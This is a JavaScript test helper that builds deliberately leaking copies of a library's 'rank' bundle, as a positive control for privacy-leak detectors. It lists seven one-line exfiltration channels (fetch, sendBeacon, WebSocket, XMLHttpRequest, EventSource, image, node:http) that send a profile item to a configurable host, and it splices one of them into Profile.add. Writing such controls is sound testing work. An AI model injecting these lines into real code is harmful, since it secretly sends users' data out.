// Owns the positive control of the privacy tests: builds of the library that leak on purpose. Must be used by
// tests only.
import { readFileSync } from 'node:fs';

/**
 * The bundle as it is shipped.
 * @param {string} name
 */
export const bundle = (name) => readFileSync(new URL(`../../dist/${name}.js`, import.meta.url), 'utf8');

/**
 * The ways out of a page, and of Node, as one line that sends an item id. `seenBy`: the detectors that must
 * notice it. A page under connect-src 'none' sends nothing, so there the policy notices; a page without it
 * does send, and there the server and the driver do.
 */
export const leaks = Object.freeze({
  fetch: "globalThis.fetch(leakTo + '/leak?' + ITEM)",
  sendBeacon: "globalThis.navigator?.sendBeacon?.(leakTo + '/leak', ITEM)",
  WebSocket: "new globalThis.WebSocket(leakTo.replace('http', 'ws') + '/leak?' + ITEM)",
  XMLHttpRequest:
    "((x) => { x.open('POST', leakTo + '/leak'); x.send(ITEM); })(new globalThis.XMLHttpRequest())",
  EventSource: "new globalThis.EventSource(leakTo + '/leak?' + ITEM)",
  image: "globalThis.document && (new globalThis.Image().src = leakTo + '/leak?' + ITEM)",
  'node:http': "import('node:http').then(({ get }) => get(leakTo + '/leak?' + ITEM))",
});

/**
 * The entry that ranks, with one line more: the first event of every profile is sent. Each build leaks once,
 * as a careful spy would.
 * @param {keyof typeof leaks} way
 * @param {string} leakTo
 */
export function leakingBuild(way, leakTo) {
  const code = bundle('rank');
  const place = /\badd\((\w+)\)\{/;
  const found = place.exec(code);
  if (!found)
    throw new Error(
      'the place of Profile.add in dist/rank.js is not where it was: change the pattern of the leaking build',
    );
  const line = leaks[way].replaceAll('ITEM', `encodeURIComponent(String(${found[1]}?.item ?? ${found[1]}))`);
  const once = `if (!leaked) { leaked = true; try { ${line}; } catch {} }`;
  const leaking = code.replace(place, (start) => `${start}${once}`);
  return `let leaked = false; const leakTo = ${JSON.stringify(leakTo)};\n${leaking}`;
}
